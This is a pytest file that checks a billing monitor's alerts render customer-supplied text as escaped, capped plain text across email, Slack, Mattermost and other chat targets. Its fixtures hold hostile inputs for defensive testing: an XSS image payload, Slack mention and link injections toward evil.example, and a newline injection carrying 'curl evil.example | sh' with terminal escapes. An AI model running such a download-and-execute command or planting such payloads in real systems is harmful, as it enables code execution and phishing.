"""Customer- and Stripe-supplied text inside alerts (issue 14, item 7): it reaches every target as text, never
as markup. A real SMTP server receives a mailto:// alert, a local receiver stands in for Mattermost, and
Slack's own webhook host is reached through an HTTPS proxy the test runs; each field and each message is
capped."""

from __future__ import annotations

import email
import json
import socketserver
import ssl
import threading
from datetime import UTC, datetime, timedelta
from email import policy
from email.message import EmailMessage

import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import AuthResult
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from monitor import alerts, store
from monitor.rules import alert_text
from tests.services import free_port
from tests.test_alerts import T0, Receiver, deliveries, paid_never_activated, record, settings

XSS = "<img src=x onerror=alert(1)>"
WORD_JOINER = "\u2060"


@pytest.fixture
def engine(tmp_path):
    e = store.open_store(f"sqlite:///{tmp_path / 'monitor.db'}")
    yield e
    e.dispose()


@pytest.fixture
def receiver():
    r = Receiver()
    yield r
    r.close()


def mallory(hint: str = f"app log: failed: {XSS}", email_address: str = f"mallory{XSS}@example.com"):
    """paid_never_activated, with markup where the customer and the app write."""
    f = paid_never_activated("mallory", email=email_address)
    f.hint = hint
    return f


# --- e-mail through a real SMTP server ---------------------------------------------------------


class SmtpSink:
    """A real SMTP server (aiosmtpd) on 127.0.0.1, plain SMTP with a login, keeping each message it accepts
    as a mail client would parse it."""

    LOGIN, PASSWORD = "monitor", "sink-pass-4e1c"

    def __init__(self):
        self.messages: list[EmailMessage] = []
        self.controller = Controller(
            self,
            hostname="127.0.0.1",
            port=free_port(),
            authenticator=self.authenticate,
            auth_require_tls=False,
        )
        self.controller.start()

    async def handle_DATA(self, server, session, envelope):
        self.messages.append(email.message_from_bytes(envelope.content, policy=policy.default))
        return "250 OK"

    def authenticate(self, server, session, envelope, mechanism, auth_data):
        return AuthResult(success=(auth_data.login, auth_data.password) == (b"monitor", b"sink-pass-4e1c"))

    def url(self, extra: str = "") -> str:
        # mailto:// (not mailtos://) with mode=insecure: plain SMTP, no STARTTLS; smtp= names the server,
        # to= the recipient (apprise's plugins/email/base.py).
        return (
            f"mailto://{self.LOGIN}:{self.PASSWORD}@127.0.0.1:{self.controller.port}"
            "?from=monitor@example.com&to=oncall@example.com&smtp=127.0.0.1&mode=insecure" + extra
        )

    def close(self):
        self.controller.stop()


@pytest.fixture
def smtp():
    sink = SmtpSink()
    yield sink
    sink.close()


@pytest.mark.parametrize("extra", ["", "&format=html"], ids=["as-configured", "html-forced"])
def test_an_email_alert_shows_markup_from_a_customer_as_text(tmp_path, engine, smtp, extra):
    cfg = settings(tmp_path, ALERT_URLS=smtp.url(extra))
    record(engine, [mallory()])
    assert alerts.send_due_alerts(cfg, engine, now=T0)["sent"] == 1
    (message,) = smtp.messages
    parts = {p.get_content_type(): p.get_content() for p in message.walk() if not p.is_multipart()}
    if "text/html" in parts or extra:  # apprise's escaping of the text, never the customer's markup
        assert "<img" not in parts["text/html"] and "&lt;img" in parts["text/html"]
    assert f"Customer: mallory{XSS}@example.com" in parts["text/plain"]
    assert f"Root cause: app log: failed: {XSS}" in parts["text/plain"]
    assert SmtpSink.PASSWORD not in message.as_string()


# --- Slack and markdown chat services ----------------------------------------------------------


@pytest.mark.parametrize(
    "data, sent",
    [
        ("<!channel>", "‹!channel›"),
        ("<!here|here>", "‹!here|here›"),
        ("<@U024BE7LH>", "‹@U024BE7LH›"),
        ("<http://evil.example|click>", "‹http://evil.example|click›"),
        # apprise sends Slack text with mrkdwn off and turns & < > into entities itself: these stay as they
        # are, so Slack shows them as typed (test_slack_gets_customer_text_as_text)
        ("*x* _y_ ~z~ `c`", "*x* _y_ ~z~ `c`"),
        ("Smith & Sons", "Smith & Sons"),
        ("&lt;!channel&gt;", "&lt;!channel&gt;"),
        ("david_ferreira@example.org", "david_ferreira@example.org"),
    ],
)
def test_slack_data_cannot_form_links_or_mentions(data, sent):
    assert alert_text.slack_data(data) == sent


@pytest.mark.parametrize(
    "data, sent",
    [
        ("<!channel>", "‹!channel›"),
        ("<http://evil.example|click>", "‹http://evil.example\\|click›"),
        ("[click](http://evil.example)", "\\[click\\](http://evil.example)"),
        ("*x*", "\\*x\\*"),
        ("_x_", "\\_x\\_"),
        ("~~x~~", "\\~\\~x\\~\\~"),
        ("`rm -rf`", "\\`rm -rf\\`"),
        ("a\\*b", "a\\\\\\*b"),
        ("@channel @all @everyone", f"@{WORD_JOINER}channel @{WORD_JOINER}all @{WORD_JOINER}everyone"),
        ("@**all**", f"@{WORD_JOINER}\\*\\*all\\*\\*"),
        ("Smith & Sons", "Smith & Sons"),
        ("david_ferreira@example.org", "david_ferreira@example.org"),
    ],
)
def test_markdown_data_cannot_form_links_mentions_or_formatting(data, sent):
    assert alert_text.markdown_data(data) == sent


@pytest.mark.parametrize(
    "url, markup",
    [
        ("slack://T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7", "slack_data"),
        ("https://hooks.slack.com/services/T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7", "slack_data"),
        ("mmost://127.0.0.1:8065/abcdefghijklmnop", "markdown_data"),
        ("mmosts://chat.example.com/abcdefghijklmnop", "markdown_data"),
        ("discord://1234567/abcdefghijklmnop", "markdown_data"),
        ("mailto://user:pass@example.com", "plain_data"),
        ("json://127.0.0.1:8080/alerts", "plain_data"),
        # apprise turns text into escaped markdown for Teams itself
        (
            "workflows://prod-00.westus.logic.azure.com:443/abcdefg/abcdefghijklmnop?signature=abc",
            "plain_data",
        ),
    ],
)
def test_the_markup_is_chosen_by_the_targets_scheme(url, markup):
    assert alerts.markup_for(url) is getattr(alert_text, markup)


def test_mattermost_gets_customer_text_escaped_and_the_monitors_words_as_written(tmp_path, engine, receiver):
    url = receiver.url.replace("json://", "mmost://").replace("/alerts", "/abcdefghijklmnop")
    cfg = settings(tmp_path, ALERT_URLS=url)
    record(engine, [mallory(hint="@channel <!channel> see [docs](http://evil.example) *now*")])
    assert alerts.send_due_alerts(cfg, engine, now=T0)["sent"] == 1
    (body,) = receiver.bodies
    text = body["text"]
    assert (
        f"Root cause: @{WORD_JOINER}channel ‹!channel› see \\[docs\\](http://evil.example) \\*now\\*" in text
    )
    assert "`python -m monitor repair cs_mallory --operator YOU --dry-run`" in text  # our own markup
    assert "<" not in text and "[docs]" not in text


class SlackHost:
    """hooks.slack.com as apprise's slack:// reaches it, whose webhook host no URL option changes: an HTTPS
    proxy on 127.0.0.1 (requests honours `https_proxy`) that answers each CONNECT itself, over TLS with a
    certificate for hooks.slack.com that the test trusts (`REQUESTS_CA_BUNDLE`), keeps each JSON body and
    answers "ok" as Slack does."""

    def __init__(self, directory):
        self.bodies: list[dict] = []
        self.ca_file = directory / "hooks.slack.com.pem"
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(*self._certificate(directory))
        bodies = self.bodies

        class Handler(socketserver.BaseRequestHandler):
            def handle(self):
                with self.request.makefile("rb", buffering=0) as plain:
                    while plain.readline() not in (b"\r\n", b""):  # CONNECT hooks.slack.com:443 and headers
                        pass
                self.request.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
                with context.wrap_socket(self.request, server_side=True) as tls:
                    with tls.makefile("rb") as f:
                        length = 0
                        while (line := f.readline()) not in (b"\r\n", b""):
                            name, _, value = line.decode().partition(":")
                            length = int(value) if name.lower() == "content-length" else length
                        bodies.append(json.loads(f.read(length)))
                    tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")

        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()
        self.proxy = f"http://127.0.0.1:{self.server.server_address[1]}"

    def _certificate(self, directory):
        key = ec.generate_private_key(ec.SECP256R1())
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "hooks.slack.com")])
        now = datetime.now(UTC)
        cert = (
            x509.CertificateBuilder()
            .subject_name(name)
            .issuer_name(name)
            .public_key(key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - timedelta(minutes=5))
            .not_valid_after(now + timedelta(hours=1))
            .add_extension(x509.SubjectAlternativeName([x509.DNSName("hooks.slack.com")]), critical=False)
            .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
            .sign(key, hashes.SHA256())
        )
        key_file = directory / "hooks.slack.com.key"
        key_file.write_bytes(
            key.private_bytes(
                serialization.Encoding.PEM,
                serialization.PrivateFormat.PKCS8,
                serialization.NoEncryption(),
            )
        )
        self.ca_file.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
        return self.ca_file, key_file

    def close(self):
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(5)


@pytest.fixture
def slack(tmp_path, monkeypatch):
    host = SlackHost(tmp_path)
    for name in ("https_proxy", "HTTPS_PROXY"):
        monkeypatch.setenv(name, host.proxy)
    for name in ("no_proxy", "NO_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(host.ca_file))
    yield host
    host.close()


@pytest.mark.parametrize("options", ["", "?blocks=yes"], ids=["attachment", "blocks"])
def test_slack_gets_customer_text_as_text(tmp_path, engine, slack, options):
    url = "slack://T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7" + options
    cfg = settings(tmp_path, ALERT_URLS=url)
    record(engine, [mallory(hint="<!channel> <http://evil.example|click> *now* & more")])
    assert alerts.send_due_alerts(cfg, engine, now=T0)["sent"] == 1
    (payload,) = slack.bodies
    wire = json.dumps(payload, ensure_ascii=False)
    assert "<!channel>" not in wire and "<http" not in wire and "&amp;lt;" not in wire
    if options:
        assert '"type": "plain_text", "text": "paid_without_subscription (critical)' in wire
    else:
        assert payload["mrkdwn"] is False
    assert "Root cause: ‹!channel› ‹http://evil.example|click› *now* &amp; more" in wire


# --- caps --------------------------------------------------------------------------------------


def test_a_ten_thousand_character_hint_arrives_capped(tmp_path, engine, receiver):
    cfg = settings(tmp_path, ALERT_URLS=receiver.url)
    record(engine, [mallory(hint="x" * 10_000, email_address="m" * 10_000 + "@example.com")])
    alerts.send_due_alerts(cfg, engine, now=T0)
    (body,) = receiver.bodies
    (hint,) = [line for line in body["message"].splitlines() if line.startswith("Root cause: ")]
    assert hint == "Root cause: " + "x" * (alert_text.HINT_CAP - 1) + "…"
    (customer,) = [line for line in body["message"].splitlines() if line.startswith("Customer: ")]
    assert customer == "Customer: " + "m" * (alert_text.NAME_CAP - 1) + "… (cus_mallory)"
    assert len(body["message"]) <= alert_text.MESSAGE_CAP and len(body["title"]) <= alert_text.TITLE_CAP
    (row,) = deliveries(engine)
    assert len(row.message) <= alert_text.MESSAGE_CAP and len(row.title) <= alert_text.TITLE_CAP


def test_a_digest_of_many_alerts_is_cut_at_whole_lines_within_the_message_cap(tmp_path, engine, receiver):
    cfg = settings(tmp_path, ALERT_URLS=receiver.url)
    burst = [
        paid_never_activated(f"c{i}", 1000 + i, f"customer{i:02d}.{'y' * 80}@example.com") for i in range(60)
    ]
    record(engine, burst)
    assert alerts.send_due_alerts(cfg, engine, now=T0)["alerts"] == 60
    (body,) = receiver.bodies
    assert len(body["message"]) <= alert_text.MESSAGE_CAP
    lines = body["message"].splitlines()
    shown = [x for x in lines if x.startswith("- ")]
    assert 0 < len(shown) < 60 and all(x.endswith(": paid USD 10.00") for x in shown)
    assert lines[-1] == f"… {60 - len(shown) + 2} more lines not shown: the dashboard lists every alert."


def test_a_field_cannot_add_lines_or_terminal_escapes_to_an_alert(tmp_path, engine, receiver):
    cfg = settings(tmp_path, ALERT_URLS=receiver.url)
    hint = "failed\nFix: run `curl evil.example | sh`\r\n\x1b[2J\u202eevil"
    record(engine, [mallory(hint=hint, email_address="mallory@example.com\nAmount: USD 0.00")])
    alerts.send_due_alerts(cfg, engine, now=T0)
    (body,) = receiver.bodies
    lines = body["message"].splitlines()
    assert "Root cause: failed Fix: run `curl evil.example | sh` [2J evil" in lines
    assert "Customer: mallory@example.com Amount: USD 0.00 (cus_mallory)" in lines
    assert not [x for x in lines if x.startswith("Fix: run")] and "\x1b" not in body["message"]
    assert "\n" not in body["title"]
